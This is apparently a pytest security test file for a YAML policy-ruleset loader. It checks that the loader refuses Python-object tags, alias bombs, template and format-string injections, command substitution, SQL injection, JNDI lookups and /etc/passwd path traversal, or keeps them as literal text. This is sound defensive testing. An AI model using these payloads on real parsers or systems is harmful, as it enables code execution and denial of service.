"""Rulesets are data, never code: escape attempts stay plain text or are clear errors, and nothing runs.

Every file here is written to a temporary directory; the loader must either refuse it with a
message at its line or keep the suspicious text as literal data. A sentinel records any attempt to
run a shell command, and ``eval``/``exec``/``compile`` are replaced while loading to prove the
loader never reaches for them.
"""

from __future__ import annotations

import builtins
import os
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from efficiency_rules import RulesetError, SourceLocation, load_ruleset, load_rulesets
from efficiency_rules._ruleset import check_paths

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "tests" / "data" / "rulesets"

HEADER = 'id: test.security\ntitle: 安全\nversion: "1"\neffective: {from: 2024-01-01}\n'
VERDICT = "verdicts:\n  v: {kind: violation, message: 违规}\n"


def rule(on: str = "case.received", condition: str | None = None, rule_id: str = "r") -> str:
    lines = [f"  - id: {rule_id}", f"    on: {on}"]
    if condition is not None:
        lines.append(f"    if: {condition}")
    return "\n".join([*lines, "    verdict: v"]) + "\n"


@pytest.fixture
def write(tmp_path: Path) -> Iterator[Any]:
    def write(text: str, name: str = "ruleset.yaml") -> Path:
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        return path

    yield write


@pytest.fixture(autouse=True)
def no_commands(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Any]]:
    """Any way a tag could reach a shell is recorded (and does nothing)."""
    ran: list[Any] = []

    def record(*args: Any, **kwargs: Any) -> int:
        ran.append(args)
        return 0

    for name in ("system", "popen", "execv", "execvp", "spawnv"):
        monkeypatch.setattr(os, name, record)
    monkeypatch.setattr(subprocess, "Popen", record)
    yield ran
    assert ran == [], f"a command ran while loading: {ran}"


def issues_of(path: Path) -> list[str]:
    rulesets, issues = check_paths([path])
    assert rulesets == []
    return [str(issue) for issue in issues]


# -- tags: YAML's way to construct Python objects -------------------------------------------------

TAGS = [
    ("!!python/object/apply:os.system ['touch pwned']", "tag:yaml.org,2002:python/object/apply:os.system"),
    ("!!python/object/new:os.system ['touch pwned']", "tag:yaml.org,2002:python/object/new:os.system"),
    ("!!python/name:os.system", "tag:yaml.org,2002:python/name:os.system"),
    ("!!python/module:os", "tag:yaml.org,2002:python/module:os"),
    ("!!python/object:subprocess.Popen {args: [touch, pwned]}", "tag:yaml.org,2002:python/object:subprocess.Popen"),
    ("!!python/tuple [a, b]", "tag:yaml.org,2002:python/tuple"),
    ("!!binary dG91Y2ggcHduZWQ=", "tag:yaml.org,2002:binary"),
    ("!!set {a: null}", "tag:yaml.org,2002:set"),
    ("!shell touch pwned", "!shell"),
]


@pytest.mark.parametrize(("value", "tag"), TAGS, ids=[t[1].rsplit(":", 1)[-1] for t in TAGS])
def test_tags_are_refused_at_their_line(write: Any, tmp_path: Path, value: str, tag: str) -> None:
    path = write(HEADER + VERDICT + "rules:\n" + rule(on=value))
    assert issues_of(path) == [
        f"{path}:9:9: tag {tag!r} is not allowed in a policy file (plain data only)"
    ]
    assert not (tmp_path / "pwned").exists()


def test_a_tag_in_a_condition_value_is_refused(write: Any) -> None:
    path = write(HEADER + VERDICT + "rules:\n" + rule(condition="{field: matter, op: '==', value: !!python/name:os.getcwd }"))
    assert issues_of(path) == [
        f"{path}:10:42: tag 'tag:yaml.org,2002:python/name:os.getcwd' is not allowed in a policy file (plain data only)"
    ]


# -- anchors and aliases: the billion laughs ------------------------------------------------------

BILLION_LAUGHS = """\
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
i: &i [*h, *h, *h, *h, *h, *h, *h, *h, *h]
"""


def test_billion_laughs_is_refused_at_the_first_alias(write: Any) -> None:
    path = write(HEADER + BILLION_LAUGHS)
    started = time.perf_counter()
    assert issues_of(path) == [f"{path}:6:8: aliases ('*a') are not allowed in a policy file"]
    assert time.perf_counter() - started < 1


def test_an_alias_inside_a_rule_is_refused(write: Any) -> None:
    text = HEADER + VERDICT + "rules:\n  - &r {id: r, on: case.received, verdict: v}\n  - *r\n"
    path = write(text)
    assert issues_of(path) == [f"{path}:9:5: aliases ('*r') are not allowed in a policy file"]


def test_a_merge_key_is_refused(write: Any) -> None:
    path = write(HEADER + VERDICT + "rules:\n  - <<: {on: case.received}\n    id: r\n    verdict: v\n")
    assert issues_of(path) == [f"{path}:8:5: merge keys ('<<') are not allowed in a policy file"]


# -- template and code syntax stays text -----------------------------------------------------------

PLACEHOLDERS = "{rule}, {thread}, {event_type}, {event_id}, {actor}, {unit}, {at}, {deadline}, {within}, {count}, {limit}, {matter}, {overdue_by}, {reason}, {approver}, {new_items}"


@pytest.mark.parametrize(
    ("message", "placeholder"),
    [
        ("{{7*7}}", "7*7"),
        ("${HOME}", "HOME"),
        ("{__import__('os').system('touch pwned')}", "__import__('os').system('touch pwned')"),
        ("{rule.__class__.__mro__}", "rule.__class__.__mro__"),
        ("{at:%Y}", "at:%Y"),
        ("{thread!r}", "thread!r"),
        ("{0}", "0"),
        ("{}", ""),
    ],
)
def test_a_message_placeholder_outside_the_list_is_an_error(write: Any, message: str, placeholder: str) -> None:
    path = write(HEADER + f"verdicts:\n  v:\n    kind: violation\n    message: {_quoted(message)}\n")
    (issue,) = issues_of(path)
    assert issue.startswith(f"{path}:8:14: verdict 'v': unknown placeholder {{{placeholder}}} in message; placeholders are {PLACEHOLDERS}")


def test_braces_that_make_no_placeholder_stay_text(write: Any) -> None:
    """Only {name} is a placeholder (the engine fills the allowed names); a lone brace is text."""
    message = "{thread} 满意度 } 50% {7*7 ${HOME"
    path = write(HEADER + f"verdicts:\n  v: {{kind: violation, message: {_quoted(message)}}}\n")
    assert load_ruleset(path).spec.verdicts["v"].message == message


INJECTIONS = [
    "{{7*7}}",
    "${jndi:ldap://example.invalid/a}",
    "__import__('os').system('touch pwned')",
    "`touch pwned`",
    "$(touch pwned)",
    "'; DROP TABLE cases; --",
    "lambda: 1",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_code_in_a_condition_value_is_literal_text(write: Any, value: str) -> None:
    condition = f'{{field: matter, op: "==", value: {_quoted(value)}}}'
    path = write(HEADER + VERDICT + "rules:\n" + rule(condition=condition))
    (compiled,) = load_ruleset(path).rules
    assert compiled.condition == ("cmp", "==", "f.matter", value)


@pytest.mark.parametrize("value", INJECTIONS)
def test_code_as_an_operator_is_an_unknown_operator(write: Any, value: str) -> None:
    path = write(HEADER + VERDICT + "rules:\n" + rule(condition=f"{{field: matter, op: {_quoted(value)}, value: x}}"))
    (issue,) = issues_of(path)
    assert issue.startswith(f"{path}:10:29: rule 'r': unknown operator {value!r}; operators are == != < <= > >= in not_in exists missing")


@pytest.mark.parametrize("value", INJECTIONS)
def test_code_as_a_field_is_an_unknown_field(write: Any, value: str) -> None:
    path = write(HEADER + VERDICT + "rules:\n" + rule(condition=f"{{field: {_quoted(value)}, op: exists}}"))
    assert issues_of(path) == [
        f"{path}:10:17: rule 'r': case.received has no field {value!r}; its fields are actor, at, case_id, channel, id, "
        "matter, meta, type, unit"
    ]


@pytest.mark.parametrize("value", INJECTIONS)
def test_code_as_an_event_type_is_an_unknown_event_type(write: Any, value: str) -> None:
    path = write(HEADER + VERDICT + "rules:\n" + rule(on=_quoted(value)))
    (issue,) = issues_of(path)
    assert issue.startswith(f"{path}:9:9: rule 'r': unknown event type {value!r}")


@pytest.mark.parametrize("value", INJECTIONS)
def test_code_as_a_rule_id_is_not_an_id(write: Any, value: str) -> None:
    path = write(HEADER + VERDICT + "rules:\n" + rule(rule_id=_quoted(value)))
    (issue,) = issues_of(path)
    assert issue == (
        f"{path}:8:9: rule {value!r}: 'id': {value!r} is not a valid id "
        "(lower-case letters, digits, '.', '_' and '-', starting with a letter or digit)"
    )


def test_a_timezone_cannot_name_a_file(write: Any) -> None:
    for zone in ("/etc/passwd", "../../../../etc/passwd", "Asia/../../etc/passwd"):
        path = write(HEADER + f"timezone: {zone}\n")
        assert issues_of(path) == [f"{path}:5:11: unknown timezone {zone!r}; e.g. 'Asia/Shanghai'"]


def _quoted(value: str) -> str:
    """``value`` as a double-quoted YAML scalar."""
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


# -- size and depth ------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [1, 50, 200])
def test_deeply_nested_conditions_load(write: Any, depth: int) -> None:
    condition = "{not: " * depth + "{field: matter, op: exists}" + "}" * depth
    path = write(HEADER + VERDICT + "rules:\n" + rule(condition=condition))
    expected: Any = ("exists", "f.matter")
    for _ in range(depth):
        expected = ("not", expected)
    assert load_ruleset(path).rules[0].condition == expected


@pytest.mark.parametrize("shape", ["not", "list", "all"])
def test_too_deep_a_condition_is_a_clear_error(write: Any, shape: str) -> None:
    depth = 5000
    opening, closing = {"not": ("{not: ", "}"), "list": ("[", "]"), "all": ("{all: [", "]}")}[shape]
    condition = opening * depth + "{field: matter, op: exists}" + closing * depth
    path = write(HEADER + VERDICT + "rules:\n" + rule(condition=condition))
    (issue,) = issues_of(path)
    assert issue.startswith(f"{path}:10:")
    assert issue.split(": ", 1)[1].startswith(
        "the data is nested more than 256 levels deep (lists and mappings inside one another): a policy needs far fewer; "
        "look for brackets left open\n")


@pytest.mark.parametrize("depth", [1_000, 20_000])
def test_reading_is_linear_in_the_depth_of_nesting(tmp_path: Path, depth: int) -> None:
    """A file nested far deeper than the bound is refused at once: 40 KB of brackets in milliseconds, not seconds."""
    path = tmp_path / "deep.yaml"
    path.write_text(HEADER + "verdicts: " + "[" * depth + "]" * depth + "\n", encoding="utf-8")
    started = time.perf_counter()
    (issue,) = issues_of(path)
    assert time.perf_counter() - started < 0.5  # was 0.9 s at 1,000 and 3.7 s at 20,000 levels
    assert "nested more than 256 levels deep" in issue


def test_ten_thousand_rules_load(monkeypatch: pytest.MonkeyPatch, write: Any) -> None:
    """A sanity bound, not a benchmark: nothing in the checker grows faster than the file.

    Reading the YAML (libyaml, every value with its line) takes most of the time, about 2 s for
    10,000 rules here (`python tests/benchmarks/bench_ruleset_load.py`); the checker's own share
    is bounded tightly. CPU time, so that a busy machine does not fail it.
    """
    from efficiency_rules import _ruleset
    from efficiency_rules._yaml import load_yaml as read

    reading = 0.0

    def timed_read(*args: Any, **kwargs: Any) -> Any:
        nonlocal reading
        started = time.process_time()
        try:
            return read(*args, **kwargs)
        finally:
            reading += time.process_time() - started

    monkeypatch.setattr(_ruleset, "load_yaml", timed_read)
    lines = [HEADER + VERDICT + "rules:"]
    for i in range(10_000):
        lines.append(f'  - {{id: r{i}, on: case.supplement_requested, if: {{count: case.paused, op: ">", value: {i % 7}}}, verdict: v}}')
    path = write("\n".join(lines) + "\n")
    started = time.process_time()
    ruleset = load_ruleset(path)
    total = time.process_time() - started
    assert len(ruleset.rules) == 10_000
    assert ruleset.rules[-1].condition == ("cmp", ">", "count.case.paused", 9_999 % 7)
    assert total - reading < 5, f"checking took {total - reading:.1f} s (reading {reading:.1f} s)"
    assert total < 60, f"loading took {total:.1f} s"


def test_a_thousand_problems_are_all_reported_in_order(write: Any) -> None:
    lines = [HEADER + VERDICT + "rules:"]
    for i in range(1_000):
        lines.append(f"  - {{id: r{i}, on: case.supplement_requested, if: {{count: case.paused, op: 以上, value: 1}}, verdict: v}}")
    path = write("\n".join(lines) + "\n")
    issues = issues_of(path)
    assert len(issues) == 1_000
    assert issues[0].startswith(f"{path}:8:74: rule 'r0': comparison written in words ('以上')")
    assert issues[-1].startswith(f"{path}:1007:76: rule 'r999': comparison written in words ('以上')")


# -- no eval, no exec --------------------------------------------------------------------------------


def test_loading_never_calls_eval_exec_or_compile(monkeypatch: pytest.MonkeyPatch, write: Any) -> None:
    every_file = sorted(DATA.rglob("*.yaml"))
    check_paths(every_file)  # first: imports and caches may use them legitimately
    calls: list[str] = []

    def refuse(name: str) -> Any:
        def refused(*args: Any, **kwargs: Any) -> Any:
            calls.append(name)
            raise AssertionError(f"{name} called while loading a ruleset")

        return refused

    # A fresh declared type is built while patched: pydantic's create_model must not need them either.
    fresh = write(HEADER + "event_types:\n  fresh.type:\n    fields: {n: integer, s: {type: string, enum: [a]}}\n"
                  + VERDICT + "rules:\n" + rule(on="fresh.type", condition='{field: n, op: ">", value: 1}'))
    with monkeypatch.context() as patched:
        for name in ("eval", "exec", "compile"):
            patched.setattr(builtins, name, refuse(name))
        with pytest.raises(AssertionError):  # the trap is set
            eval("1")  # noqa: S307
        calls.clear()
        good = load_rulesets([DATA / "good", fresh])
        _, issues = check_paths([DATA / "bad", DATA / "versions"])
    assert calls == []
    assert len(good) == 6 and len(issues) > 100


def test_a_refused_file_is_a_ruleset_error_not_a_yaml_error(write: Any) -> None:
    import yaml

    path = write(HEADER + "title2: !!python/object/apply:os.system ['x']\n")
    with pytest.raises(RulesetError) as info:
        load_ruleset(path)
    assert not isinstance(info.value, yaml.YAMLError)
    assert info.value.issues[0].location == SourceLocation(str(path), 5, 9)
